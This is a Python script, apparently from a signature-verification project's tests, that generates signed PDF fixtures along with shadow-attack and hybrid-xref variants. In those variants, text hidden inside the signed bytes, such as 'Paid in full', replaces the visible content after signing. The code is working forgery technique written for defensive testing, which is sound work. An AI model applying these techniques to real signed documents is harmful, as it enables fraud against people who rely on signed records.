"""Make the signed files and the attacks on them in this folder (see README.md here).

    PYTHONPATH=. python tests/data/attacks/make.py

Every file is signed by a new development CA (``ca.pem``) at the time in ``made.json``;
tests verify at that time. The attacks follow the shadow-attack classes of Mainka, Mladenov
and Rohlmann ("Shadow Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021): the
shadow content is inside the signed bytes (hidden in an unused stream), and an incremental
update of a cross-reference section and a trailer only, no new object, makes it visible.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
from pathlib import Path

from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers

from pipeline.signatures.signing import load_signer, make_dev_pki

HERE = Path(__file__).resolve().parent
FONT = b"<< /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R"
    b" /Resources << /Font %s >>%s >>"
)


def _stream(content: bytes, length: int | None = None) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (
        len(content) if length is None else length,
        content,
    )


def _pdf(objects: list[bytes], extra: bytes = b"") -> bytes:
    """A classic PDF of ``objects`` (numbered from 1) with exact offsets."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        extra,
        xref,
    )
    return bytes(out)


def shadow_document(broken: bool) -> bytes:
    """A page saying "Hello sohoa"; object 5, used by nothing, holds the shadow objects
    (with a wrong /Length when ``broken``, which only a lenient reader recovers from)."""
    bad = 400 if broken else None
    white = b"q 1 1 1 rg 0 0 300 144 re f Q"
    paid = b"BT /F1 18 Tf 20 60 Td (Paid in full) Tj ET"
    shadow = b"\n".join(
        [
            b"3 0 obj\n" + PAGE % (FONT, b" /Annots [20 0 R]") + b"\nendobj",
            b"20 0 obj\n<< /Type /Annot /Subtype /Square /Rect [0 0 300 144] /F 4"
            b" /AP << /N 21 0 R >> >>\nendobj",
            b"21 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 300 144] /Length %d >>"
            b"\nstream\n%s\nendstream\nendobj" % (bad or len(white), white),
            b"4 0 obj\n" + _stream(paid, bad) + b"\nendobj",
            b"30 0 obj\n<< /Type /Catalog /Pages 31 0 R >>\nendobj",
            b"31 0 obj\n<< /Type /Pages /Kids [32 0 R] /Count 1 >>\nendobj",
            b"32 0 obj\n<< /Type /Page /Parent 31 0 R /MediaBox [0 0 300 144] /Contents 33 0 R"
            b" /Resources << /Font %s >> >>\nendobj" % FONT,
            b"33 0 obj\n" + _stream(paid, bad) + b"\nendobj",
        ]
    )
    hello = b"BT /F1 18 Tf 20 60 Td (Hello sohoa) Tj ET"
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE % (FONT, b""),
            _stream(hello),
            _stream(b"\n" + shadow + b"\n"),
        ]
    )


def sign(data: bytes, signer: signers.Signer, name: str, when: dt.datetime) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    meta = signers.PdfSignatureMetadata(
        field_name=name, subfilter=fields.SigSeedSubFilter.PADES, md_algorithm="sha256"
    )
    out = io.BytesIO()
    signers.PdfSigner(meta, signer=signer, new_field_spec=fields.SigFieldSpec(name)).sign_pdf(
        writer, output=out
    )
    return out.getvalue()


def _last_xref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def _size(data: bytes) -> int:
    return max(int(m) for m in re.findall(rb"/Size (\d+)", data))


def repoint(data: bytes, entries: dict[int, int], root: int | None = None) -> bytes:
    """An update of a cross-reference section and a trailer only: object -> offset."""
    out = bytearray(data)
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(entries.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(_size(data), 40),
        root or 1,
        _last_xref(data),
        xref,
    )
    return bytes(out)


def shadow_offset(data: bytes, number: int) -> int:
    """The offset of the shadow copy of object ``number`` inside object 5's stream."""
    holder = data.index(b"\n5 0 obj")
    return data.index(b"\n%d 0 obj" % number, holder + 1) + 1


def hybrid_document(text: bytes) -> bytes:
    """A hybrid-reference file as Word makes them: the font sits in an object stream that
    only the /XRefStm stream lists; the classic table lists it as free."""
    content = b"BT /F1 18 Tf 20 60 Td (" + text + b") Tj ET"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    head = b"5 0 "
    objstm = b"<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n%s%s\nendstream" % (
        len(head),
        len(head) + len(font),
        head,
        font,
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(content),
        None,
        objstm,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(objects, 1):
        if body is not None:
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    stream_at = len(out)
    row = b"\x02\x00\x00\x00\x06\x00\x00"  # object 5: in object stream 6, index 0
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Index [5 1] /Length %d >>\nstream\n"
        % len(row)
        + row
        + b"\nendstream\nendobj\n"
    )
    offsets[7] = stream_at
    xref = len(out)
    out += b"xref\n0 8\n0000000000 65535 f \n"
    for number in range(1, 8):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size 8 /Root 1 0 R /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        stream_at,
        xref,
    )
    return bytes(out)


def hybrid_hiding(signed: bytes) -> bytes:
    """An update whose classic table keeps the page content where it was (pyHanko and
    classic readers see no change) while its /XRefStm points it at new content."""
    out = bytearray(signed)
    size = _size(signed)
    old = int(re.search(rb"\n4 0 obj", signed).start() + 1)
    new = len(out)
    out += b"4 0 obj\n" + _stream(b"BT /F1 18 Tf 20 60 Td (Paid in full) Tj ET") + b"\nendobj\n"
    row = b"\x01" + new.to_bytes(4, "big") + b"\x00\x00"
    stream_at = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [4 1] /Length %d >>\nstream\n"
        % (size, size + 1, len(row))
        + row
        + b"\nendstream\nendobj\n"
    )
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n4 1\n%010d 00000 n \n" % old
    out += b"%d 1\n%010d 00000 n \n" % (size, stream_at)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size + 1,
        _last_xref(signed),
        stream_at,
        xref,
    )
    return bytes(out)


def main() -> None:
    when = dt.datetime.now(dt.UTC).replace(microsecond=0)
    dev = make_dev_pki(when)
    signer = load_signer(dev.pkcs12, dev.password, now=when)
    (HERE / "ca.pem").write_bytes(dev.ca_cert_pem)
    files: dict[str, bytes] = {}
    for broken in (True, False):
        suffix = "" if broken else "-wellformed"
        signed = sign(shadow_document(broken), signer, "Signature1", when)
        files["shadow-base%s.pdf" % suffix] = signed
        at = {n: shadow_offset(signed, n) for n in (3, 4, 30)}
        files["shadow-hide%s.pdf" % suffix] = repoint(signed, {3: at[3]})
        files["shadow-replace%s.pdf" % suffix] = repoint(signed, {4: at[4]})
        files["shadow-hide-and-replace%s.pdf" % suffix] = repoint(signed, {30: at[30]}, root=30)
    hybrid = sign(hybrid_document(b"Hello hybrid"), signer, "Signature1", when)
    files["hybrid-signed.pdf"] = hybrid
    files["hybrid-stream-hides-content.pdf"] = hybrid_hiding(hybrid)
    for name, data in files.items():
        (HERE / name).write_bytes(data)
    made = {"signed_at": when.isoformat(), "files": sorted(files)}
    (HERE / "made.json").write_text(json.dumps(made, indent=2) + "\n")


if __name__ == "__main__":
    main()
